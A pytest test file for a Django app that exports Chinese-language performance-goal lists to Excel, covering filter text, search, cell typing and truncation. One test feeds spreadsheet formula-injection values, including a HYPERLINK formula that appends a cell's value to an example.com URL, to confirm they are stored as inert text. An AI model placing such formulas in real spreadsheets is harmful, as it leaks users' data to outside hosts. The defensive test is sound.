"""The shared list pieces: filter descriptions, the free-text search and the list workbook."""

import datetime
import io
import zipfile
from decimal import Decimal

import django_filters
from django import forms
from django.utils import timezone
from openpyxl import load_workbook

from perfgoals.lists import SearchFilterSet, filter_value_text
from perfgoals.xlsx import CELL_LIMIT, cell_value, excel_length, list_workbook
from projects.models import ProjectTable
from tests import factories


def test_filter_values_read_as_chinese_text():
    choice = forms.ChoiceField(choices=[("approved", "已批复")])
    assert filter_value_text(choice, "approved") == "已批复"
    assert filter_value_text(forms.DecimalField(), slice(Decimal("60"), Decimal("90"))) == "60 至 90"
    assert filter_value_text(forms.DecimalField(), slice(Decimal("60"), None)) == "≥ 60"
    assert filter_value_text(forms.DecimalField(), slice(None, Decimal("90"))) == "≤ 90"
    start = timezone.make_aware(datetime.datetime(2024, 3, 1))
    assert filter_value_text(forms.DateField(), slice(start, None)) == "2024-03-01 起"
    assert filter_value_text(forms.CharField(), "") == ""
    assert filter_value_text(forms.DecimalField(), slice(None, None)) == ""


class _TableSearch(SearchFilterSet):
    search_fields = ("name", "unit__name")

    class Meta:
        model = ProjectTable
        fields = []


def test_every_word_of_the_search_must_appear_in_some_searched_field(reference_data):
    unit = factories.unit(name="教育局本级")
    training = factories.project_table(unit, name="业务培训经费")
    factories.project_table(unit, name="设备购置经费")
    factories.project_table(factories.unit(name="卫生局本级"), name="业务培训经费")
    found = _TableSearch({"q": "教育 培训"}, queryset=ProjectTable.objects.all()).qs
    assert list(found) == [training]
    described = _TableSearch({"q": "教育 培训"}, queryset=ProjectTable.objects.all()).describe()
    assert described == [("搜索", "教育 培训")]


def test_filter_widgets_are_styled_for_bootstrap(reference_data):
    class Filters(_TableSearch):
        year = django_filters.NumberFilter()
        status = django_filters.ChoiceFilter(choices=[("draft", "草稿")])

    form = Filters({}, queryset=ProjectTable.objects.all()).form
    assert "form-control" in form.fields["q"].widget.attrs["class"]
    assert "form-select" in form.fields["status"].widget.attrs["class"]


def test_cells_keep_numbers_and_dates_and_read_yes_and_no():
    moment = timezone.make_aware(datetime.datetime(2024, 3, 1, 9, 30), datetime.timezone.utc)
    assert cell_value(Decimal("1.5")) == Decimal("1.5")
    assert cell_value(moment) == datetime.datetime(2024, 3, 1, 17, 30)  # Asia/Shanghai, no time zone
    assert cell_value(True) == "是" and cell_value(False) == "否"
    assert cell_value("") is None and cell_value(None) is None


def test_the_list_workbook_has_a_title_row_a_frozen_header_and_typed_cells():
    content = list_workbook(
        sheet_title="项目绩效目标表清单",
        title="项目绩效目标表清单（筛选条件：全部）",
        headers=["项目名称", "金额"],
        rows=[["甲", Decimal("1.25")], ["乙", None]],
    )
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet.title == "项目绩效目标表清单"
    assert sheet["A1"].value == "项目绩效目标表清单（筛选条件：全部）"
    assert [cell.value for cell in sheet[2]] == ["项目名称", "金额"]
    assert sheet.freeze_panes == "A3"
    assert sheet["B3"].value == 1.25 and sheet["B3"].number_format == "0.00####"
    assert sheet["B4"].value is None


def test_list_cells_keep_typed_text_as_text_never_a_formula_or_an_error_value():
    typed = ["=1+1", "+SUM(A1)", "-2+3", "@x", '=HYPERLINK("http://example.com/?"&E3,"详情")', "#N/A", "#REF!"]
    content = list_workbook(sheet_title="清单", title="=标题", headers=["=表头"], rows=[[text] for text in typed])
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    sheet = load_workbook(io.BytesIO(content)).active
    assert [sheet.cell(row, 1).value for row in range(3, 3 + len(typed))] == typed
    assert {sheet.cell(row, 1).data_type for row in range(1, 3 + len(typed))} == {"s"}


def test_a_list_cell_too_long_for_excel_says_it_was_shortened():
    text = "资" * 35000 + "尾"
    content = list_workbook(sheet_title="清单", title="清单", headers=["资金用途"], rows=[[text], ["𠀀" * 20000]])
    sheet = load_workbook(io.BytesIO(content)).active
    shown = sheet["A3"].value
    assert shown.startswith("资" * 30000) and shown.endswith("〔全文 35001 字，超出 Excel 单元格 32767 字的上限，以下从略〕")
    assert excel_length(shown) < CELL_LIMIT
    assert excel_length(sheet["A4"].value) < CELL_LIMIT and sheet["A4"].value.endswith("以下从略〕")


def test_django_tables2_calls_each_render_function_with_the_arguments_it_names():
    """perfgoals.tables remembers signatures; a bound method and a plain function of the same code
    must still be told apart (a method's ``self`` is not an argument to pass)."""
    from django_tables2.utils import call_with_appropriate

    import perfgoals.tables  # noqa: F401  (installs the remembered signatures)

    class Column:
        def render(self, value, record):
            return (self, value, record)

    column = Column()
    assert call_with_appropriate(column.render, {"value": 1, "record": 2, "table": 3}) == (column, 1, 2)
    assert call_with_appropriate(Column.render, {"self": "s", "value": 1, "record": 2}) == ("s", 1, 2)
    assert call_with_appropriate(lambda value: value * 2, {"value": 4, "record": 0}) == 8
    assert call_with_appropriate(lambda **kwargs: sorted(kwargs), {"value": 4, "record": 0}) == ["record", "value"]
